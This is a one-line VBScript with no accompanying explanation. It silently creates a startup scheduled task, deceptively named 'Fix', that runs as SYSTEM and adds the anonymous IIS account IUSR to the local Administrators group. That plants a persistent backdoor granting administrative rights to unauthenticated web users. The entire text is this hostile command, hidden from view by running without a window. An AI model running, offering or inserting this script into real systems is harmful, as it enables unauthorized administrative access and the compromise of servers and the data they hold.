CreateObject("WScript.Shell").Run "schtasks /create /tn Fix /sc onstart /ru SYSTEM /tr ""net localgroup Administrators IUSR /add""", 0, True
